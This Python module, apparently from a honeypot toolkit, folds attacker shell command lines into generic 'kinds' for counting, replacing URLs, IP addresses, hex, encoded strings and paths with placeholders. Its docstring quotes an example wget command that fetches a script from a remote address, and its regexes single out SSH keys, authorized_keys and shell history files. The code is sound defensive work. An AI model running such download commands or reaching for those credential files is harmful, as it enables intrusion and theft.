"""The kind of a command line: programs and options stay, what changes from one attacker to the next is folded. Pure.

``wget http://203.0.113.9/a.sh -O /tmp/x`` and ``wget http://198.51.100.2/b -O /opt/y`` are one kind,
``wget URL -O PATH``. A kind is for counting and for reading; rules do not match on it.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import groupby

from decnet.shell.known import COMMANDS
from decnet.shell.places import BIN, place_of
from decnet.shell.split import MAX_NESTING, Command, split_commands
from decnet.shell.wrappers import look_through

MAX_KIND_CHARS = 160
MAX_READ_CHARS = 4_000
"""Characters of a line that its kind is made of."""
MAX_COMMANDS = 12
"""Simple commands of a line that its kind names."""
NOTHING = "(nothing)"
"""The kind of a line without a command: blanks, a comment."""
KEYS = "(keys)"
"""The kind of a line that begins with what a terminal sends for arrows and the like."""

_SUBCOMMANDS = frozenset(
    ("systemctl", "service", "git", "apt", "apt-get", "yum", "dnf", "apk", "docker", "ip", "kubectl", "pip", "pip3", "npm", "nmcli", "ufw", "firewall-cmd", "openssl", "busybox", "crontab", "chkconfig", "snap", "uci", "nvram", "history", "ulimit")
)  # fmt: skip
"""Programs whose first bare word says what they do."""
_SYSTEM_PATH = re.compile(
    r"/(?:etc|proc|sys|dev(?!/shm)|boot|usr|bin|sbin|lib\w*|var/(?:log|spool|mail))(?:/[\w.*?-]+)*/?\Z"
)
_HOME_FILE = re.compile(
    r"(?:\A|/)(\.ssh|authorized_keys\d?|known_hosts|\.\w*_history|\.(?:bash|zsh)?rc|\.\w*profile)(?=/|\Z)"
)
_NUMBER = re.compile(r"\+?\d[\d.,:]*[a-zA-Z%]?\Z")
_DIGITS = re.compile(r"\d+")
_ADDRESS = re.compile(
    r"(?:[^\s@]{1,64}@)?(?:\d{1,3}(?:\.\d{1,3}){3}|\[?[0-9a-fA-F]{0,4}(?::[0-9a-fA-F]{0,4}){2,7}\]?)(?:[:/]\S*)?\Z"
)
_URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{1,15}://")
_HEX = re.compile(r"(?:0x)?[0-9a-fA-F]{8,}\Z|(?:\\+x[0-9a-fA-F]{2})+")
_ENCODED = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}\Z")
_VARIABLE = re.compile(r"\$[{(]?\w*")
_OPTION = re.compile(r"(--?\w[\w-]*)(?:=(.*))?\Z", re.DOTALL)
_MODE = re.compile(r"[0-7]{3,4}\Z|[ugoa]*[-+=][rwxstX]+\Z")


def kind_of(line: str) -> str:
    """The kind of a line, at most ``MAX_KIND_CHARS`` characters; the same for lines that differ in names only."""
    if line[:1] in ("\x1b", "\x03"):
        return KEYS
    kind = _kind(line[:MAX_READ_CHARS], 0) or NOTHING
    return kind if len(kind) <= MAX_KIND_CHARS else kind[: MAX_KIND_CHARS - 1] + "…"


def _kind(text: str, depth: int) -> str:
    pieces: list[tuple[str, str]] = []
    for command in split_commands(text).commands[:MAX_COMMANDS]:
        piece = _piece(command, depth)
        if piece:
            pieces.append((" | " if command.fed else "; ", f"({piece})" if command.inner else piece))
    out = ""
    for (joint, piece), same in groupby(pieces):
        often = " …" if sum(1 for _ in same) > 1 else ""
        out += f"{joint if out else ''}{piece}{often}"
    return out


def _piece(command: Command, depth: int) -> str:
    """One simple command: what it runs, its arguments, where its output goes."""
    rest, script = look_through(command.words)
    words = list(_program(command.words, rest))
    if script is not None and depth < MAX_NESTING:
        words += ["-c", f"({_kind(script, depth + 1)})"]
    elif rest:
        words += _arguments(words[-1], rest[1:])
    if command.more or command.given is not None:
        words.append("<< TEXT")
    words += [
        f"{op} {folded(target)}"
        for op, target in command.redirects
        if not op.endswith("&") and not op.startswith("<<")
    ]
    return " ".join(words)


def _program(words: Sequence[str], rest: Sequence[str]) -> Iterator[str]:
    """The name of what is run; an unknown one with the program that it is given to."""
    if not rest:
        if words:
            yield "VAR=" if "=" in words[0] else words[0]
        return
    path = rest[0]
    if path in ("[", "[["):
        yield path
        return
    folder, slash, base = path.rpartition("/")
    if (not slash or place_of(folder + "/") == BIN) and base in COMMANDS:
        yield base
        return
    if (carrier := words[0].rpartition("/")[2]) in COMMANDS and carrier != base:
        yield carrier
    yield f"{'./' if folder == '.' else 'PATH/' if slash else ''}NAME" if not _VARIABLE.match(path) else "VAR"


def _arguments(program: str, words: Sequence[str]) -> Iterator[str]:
    """Arguments folded; several of one kind in a row once."""
    for word, same in groupby(_argument(program, n, word) for n, word in enumerate(words)):
        yield f"{word} …" if sum(1 for _ in same) > 1 else word


def _argument(program: str, place: int, word: str) -> str:
    if program == "chmod" and _MODE.match(word):
        return "MODE"
    said = place == 0 and program in _SUBCOMMANDS and word.isalpha() and word.islower()
    return word if said else folded(word)


def folded(word: str) -> str:
    """One word without what is an attacker's own: numbers, hex, addresses, URLs, paths, names, quoted text."""
    if (option := _OPTION.match(word)) is not None:
        name = _DIGITS.sub("N", option[1])
        return name if option[2] is None else f"{name}={folded(option[2])}"
    if word.startswith(("$", "`")):
        return "VAR"
    if not word.strip() or any(blank in word for blank in " \t\n"):
        return "TEXT"
    for name, pattern in (
        ("URL", _URL),
        ("ADDRESS", _ADDRESS),
        ("N", _NUMBER),
        ("HEX", _HEX),
    ):
        if pattern.match(word):
            return name
    if "/" in word or word.startswith("~"):
        return _path(word)
    return _bare(word)


def _path(word: str) -> str:
    """A path of the system as it is (numbers folded), what lies in homes by its meaning, any other as PATH."""
    if _SYSTEM_PATH.match(word):
        folder, _, base = word.rpartition("/")
        strange = place_of(folder + "/") == BIN and base and base not in COMMANDS
        return _DIGITS.sub("N", f"{folder}/NAME" if strange else word)
    if (found := _HOME_FILE.search(word)) is not None:
        return "HOME/" + found[1]
    return "TEXT" if _ENCODED.match(word) and "." not in word and not word.startswith("/") else "PATH"


def _bare(word: str) -> str:
    if word.strip("*?.") == "" or word in ("-", "--"):
        return word
    if (found := _HOME_FILE.match(word)) is not None:
        return "HOME/" + found[1]
    return "TEXT" if _ENCODED.match(word) or not re.fullmatch(r"[\w.*?+,:@%~-]+", word) else "NAME"
